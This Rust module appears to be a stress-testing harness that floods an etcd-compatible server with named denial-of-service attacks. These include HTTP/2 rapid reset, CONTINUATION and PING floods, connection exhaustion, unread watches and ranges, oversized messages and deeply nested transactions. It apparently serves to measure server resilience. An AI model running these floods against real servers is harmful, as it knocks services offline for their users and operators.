//! The attacks. Each is a loop over connections of its own that goes on until it is told to end; what the server does about it
//! (an error, a closed connection, nothing) shows in the attempts that can still be made.

use std::io::{self, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use bytes::Bytes;
use kvorum_api::etcdserverpb::request_op::Request;
use kvorum_api::etcdserverpb::watch_request::RequestUnion;
use kvorum_api::etcdserverpb::{
    PutRequest, RangeRequest, RequestOp, TxnRequest, WatchCancelRequest, WatchCreateRequest, WatchRequest,
};
use tokio_rustls::TlsConnector;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, LATER_CALL, PING, RST_STREAM, SETTINGS, Wire, first_call,
    frame,
};
use super::{NAME, handshakes, logins};
use crate::requests::{self, PUT, RANGE, TXN, WATCH};
use crate::wire;

/// Between two rounds of an attack: the cores are to be left to the server and its client.
pub const PAUSE: Duration = Duration::from_millis(2);
/// Connections that one attacker holds.
const CONNECTIONS_MAX: usize = 2_000;
/// Connections with calls whose replies are not read, and the calls of each.
const UNREAD_CONNECTIONS_MAX: usize = 100;
const UNREAD_CALLS: u32 = 200;
const WINDOW_DEFAULT: u32 = 65_535;
const WINDOW_MAX: u32 = (1 << 31) - 1;
/// The largest frame of HTTP/2 without asking.
const FRAME_BYTES: usize = 16_384;

pub struct Attack {
    /// As given to `--only`.
    pub name: &'static str,
    pub needs: Needs,
    pub run: fn(&Assault),
}

/// What the server has for it besides keys.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Needs {
    Nothing,
    /// Authentication; the well-behaved client has a token.
    Users,
    /// A further port with TLS, which the well-behaved client does not use.
    Tls,
}

/// What an attacker is told.
#[derive(Clone)]
pub struct Assault {
    pub address: SocketAddr,
    /// The port with TLS, if the attack needs one.
    pub secured: Option<(SocketAddr, TlsConnector)>,
    pub ended: Arc<AtomicBool>,
    pub attempts: Arc<AtomicU64>,
}

pub const ATTACKS: &[Attack] = &[
    plain("none", |_| {}),
    plain("idle", idle),
    plain("silent", silent),
    plain("rapid-reset", rapid_reset),
    plain("continuation", continuation),
    plain("pings", pings),
    plain("settings-unread", settings_unread),
    plain("ranges-unread", ranges_unread),
    plain("watches-unread", watches_unread),
    plain("watch-create", watch_create),
    plain("watch-cancel", watch_cancel),
    plain("oversized", oversized),
    plain("unfinished", unfinished),
    plain("nested", nested),
    Attack { name: "logins", needs: Needs::Users, run: logins::flood },
    Attack { name: "handshakes-dropped", needs: Needs::Tls, run: handshakes::dropped },
    Attack { name: "handshakes", needs: Needs::Tls, run: handshakes::whole },
];

const fn plain(name: &'static str, run: fn(&Assault)) -> Attack {
    Attack { name, needs: Needs::Nothing, run }
}

pub fn named(name: &str) -> Result<&'static Attack, String> {
    ATTACKS.iter().find(|attack| attack.name == name).ok_or_else(|| format!("no attack is named {name}"))
}

impl Assault {
    pub fn goes_on(&self) -> bool {
        !self.ended.load(Ordering::Relaxed)
    }

    pub fn count(&self, attempts: u64) {
        self.attempts.fetch_add(attempts, Ordering::Relaxed);
    }

    /// Rounds on one connection after the other: `round` gets the number of the round on its connection and gives the
    /// attempts made; an error of it means another connection.
    fn rounds(&self, window_bytes: u32, mut round: impl FnMut(&mut Wire, u32) -> io::Result<u64>) {
        while self.goes_on() {
            let Ok(mut wire) = Wire::connect(self.address, window_bytes) else {
                std::thread::sleep(PAUSE);
                continue;
            };
            for number in 0.. {
                if !self.goes_on() {
                    return;
                }
                match round(&mut wire, number) {
                    Ok(attempts) => self.count(attempts),
                    Err(_) => break,
                }
                std::thread::sleep(PAUSE);
            }
        }
    }

    /// Holds what it has until the end.
    fn hold(&self) {
        while self.goes_on() {
            std::thread::sleep(PAUSE);
        }
    }
}

/// The head of call number `call` of a connection, and its stream.
fn head(path: &str, call: u32) -> (u32, Vec<u8>) {
    let stream = 2 * call + 1;
    let first = first_call(path);
    (stream, frame(HEADERS, END_HEADERS, stream, if call == 0 { &first } else { LATER_CALL }))
}

/// A whole call with a small message.
fn call(path: &str, number: u32, body: &[u8]) -> Vec<u8> {
    let (stream, mut bytes) = head(path, number);
    bytes.extend(frame(DATA, END_STREAM, stream, body));
    bytes
}

/// Connections that have said hello and say nothing more.
fn idle(assault: &Assault) {
    let mut held = Vec::new();
    while assault.goes_on() && held.len() < CONNECTIONS_MAX {
        if let Ok(wire) = Wire::connect(assault.address, WINDOW_DEFAULT) {
            held.push(wire);
            assault.count(1);
        }
    }
    assault.hold();
}

/// Connections that do not even say hello.
fn silent(assault: &Assault) {
    let mut held = Vec::new();
    while assault.goes_on() {
        if let Ok(mut stream) = TcpStream::connect(assault.address) {
            drop(stream.write_all(b"PRI * HTTP"));
            held.push(stream);
            assault.count(1);
        }
        if held.len() > CONNECTIONS_MAX {
            held.remove(0);
        }
        std::thread::sleep(PAUSE);
    }
}

fn rapid_reset(assault: &Assault) {
    const CALLS: u32 = 100;
    const CANCEL: u32 = 8;
    let body = requests::read_body(requests::key(NAME, 7));
    assault.rounds(WINDOW_DEFAULT, |wire, round| {
        let mut bytes = Vec::new();
        for number in round * CALLS..(round + 1) * CALLS {
            bytes.extend(call(RANGE, number, &body));
            bytes.extend(frame(RST_STREAM, 0, 2 * number + 1, &CANCEL.to_be_bytes()));
        }
        wire.send(&bytes)?;
        wire.drain()?;
        Ok(CALLS.into())
    });
}

fn continuation(assault: &Assault) {
    // A field that is not to be remembered, of 1,000 bytes.
    let mut field = vec![0x10, 1, b'x', 127, 0xe9, 0x06];
    field.resize(field.len() + 1_000, b'v');
    let some = frame(CONTINUATION, 0, 1, &field).repeat(100);
    assault.rounds(WINDOW_DEFAULT, |wire, round| {
        if round == 0 {
            wire.send(&frame(HEADERS, 0, 1, &first_call(RANGE)))?;
        }
        wire.send(&some)?;
        wire.drain()?;
        Ok(100)
    });
}

fn pings(assault: &Assault) {
    let some = frame(PING, 0, 0, &[7; 8]).repeat(1_000);
    assault.rounds(WINDOW_DEFAULT, |wire, _| {
        wire.send(&some)?;
        wire.drain()?;
        Ok(1_000)
    });
}

/// Each is to be acknowledged, and nobody takes the acknowledgements.
fn settings_unread(assault: &Assault) {
    let some = frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(1_000);
    let mut held = Vec::new();
    while assault.goes_on() {
        let Ok(mut wire) = Wire::connect(assault.address, WINDOW_DEFAULT) else { continue };
        while assault.goes_on() && wire.send(&some).is_ok() {
            assault.count(1_000);
            std::thread::sleep(PAUSE);
        }
        held.push(wire);
    }
}

/// Large ranges by the hundred on each connection; nobody takes the replies.
fn ranges_unread(assault: &Assault) {
    let range = RangeRequest { key: NAME.into(), range_end: format!("{NAME}~").into(), ..Default::default() };
    // Sorted by value: such a reply is put together before it can be sent.
    let sorted = RangeRequest { sort_order: 1, sort_target: 4, ..range.clone() };
    let bodies = [wire::frame(&range), wire::frame(&sorted)];
    hold_calls(assault, RANGE, |number| bodies[number as usize % 2].clone());
}

/// Watches of everything from the beginning; nobody takes the events.
fn watches_unread(assault: &Assault) {
    let request = WatchCreateRequest {
        key: NAME.into(),
        range_end: format!("{NAME}~").into(),
        start_revision: 1,
        ..Default::default()
    };
    let request = wire::frame(&WatchRequest { request_union: Some(RequestUnion::CreateRequest(request)) });
    hold_calls(assault, WATCH, |_| request.clone());
}

/// Opens calls on connection after connection, and reads nothing.
fn hold_calls(assault: &Assault, path: &str, body: impl Fn(u32) -> Bytes) {
    let mut held = Vec::new();
    while assault.goes_on() && held.len() < UNREAD_CONNECTIONS_MAX {
        let Ok(mut wire) = Wire::connect(assault.address, WINDOW_MAX) else { continue };
        for number in 0..UNREAD_CALLS {
            let (stream, mut bytes) = head(path, number);
            bytes.extend(frame(DATA, if path == RANGE { END_STREAM } else { 0 }, stream, &body(number)));
            if !assault.goes_on() || wire.send(&bytes).is_err() {
                break;
            }
            assault.count(1);
        }
        held.push(wire);
        std::thread::sleep(PAUSE);
    }
    assault.hold();
}

/// A watch of a key that nobody changes.
fn watch_one_key(watch_id: i64) -> Bytes {
    let request = WatchCreateRequest { key: "nobody's".into(), watch_id, ..Default::default() };
    wire::frame(&WatchRequest { request_union: Some(RequestUnion::CreateRequest(request)) })
}

fn watch_create(assault: &Assault) {
    const WATCHES: usize = 300;
    flood_watch(assault, &watch_one_key(0).repeat(WATCHES), WATCHES as u64);
}

fn watch_cancel(assault: &Assault) {
    const TIMES: usize = 150;
    let cancel = WatchRequest { request_union: Some(RequestUnion::CancelRequest(WatchCancelRequest { watch_id: 7 })) };
    let cancel = wire::frame(&cancel);
    flood_watch(assault, &[watch_one_key(7), cancel.clone(), cancel].concat().repeat(TIMES), 3 * TIMES as u64);
}

/// The same requests over and over on one watch stream.
fn flood_watch(assault: &Assault, some: &[u8], count: u64) {
    assault.rounds(WINDOW_MAX, |wire, round| {
        if round == 0 {
            wire.send(&head(WATCH, 0).1)?;
        }
        wire.send(&frame(DATA, 0, 1, some))?;
        wire.drain()?;
        Ok(count)
    });
}

/// Messages that say that they are longer than any may be.
fn oversized(assault: &Assault) {
    const CALLS: u32 = 20;
    let mut body = vec![0, 0x7f, 0xff, 0xff, 0xff];
    body.resize(FRAME_BYTES, 7);
    assault.rounds(WINDOW_DEFAULT, |wire, round| {
        for number in round * CALLS..(round + 1) * CALLS {
            wire.send(&call(PUT, number, &body))?;
        }
        wire.drain()?;
        Ok(CALLS.into())
    });
}

/// Messages of a megabyte, of which the first 32 KB come.
fn unfinished(assault: &Assault) {
    let mut begun = vec![0, 0, 16, 0, 0];
    begun.resize(FRAME_BYTES, 7);
    let more = [7; FRAME_BYTES];
    assault.rounds(WINDOW_DEFAULT, |wire, number| {
        let (stream, mut bytes) = head(PUT, number);
        bytes.extend(frame(DATA, 0, stream, &begun));
        bytes.extend(frame(DATA, 0, stream, &more));
        wire.send(&bytes)?;
        wire.drain()?;
        Ok(1)
    });
}

/// Transactions as deep as they may be, and deeper ones.
fn nested(assault: &Assault) {
    const CALLS: u32 = 10;
    let deep = |levels: usize| {
        let put = PutRequest { key: "deep".into(), value: "1".into(), ..Default::default() };
        let mut operation = RequestOp { request: Some(Request::RequestPut(put)) };
        for _ in 0..levels {
            let txn = TxnRequest { success: vec![operation], ..Default::default() };
            operation = RequestOp { request: Some(Request::RequestTxn(txn)) };
        }
        wire::frame(&TxnRequest { success: vec![operation], ..Default::default() })
    };
    let bodies = [deep(20), deep(100), deep(400)];
    assault.rounds(WINDOW_DEFAULT, |wire, round| {
        for number in round * CALLS..(round + 1) * CALLS {
            wire.send(&call(TXN, number, &bodies[number as usize % bodies.len()]))?;
        }
        wire.drain()?;
        Ok(CALLS.into())
    });
}
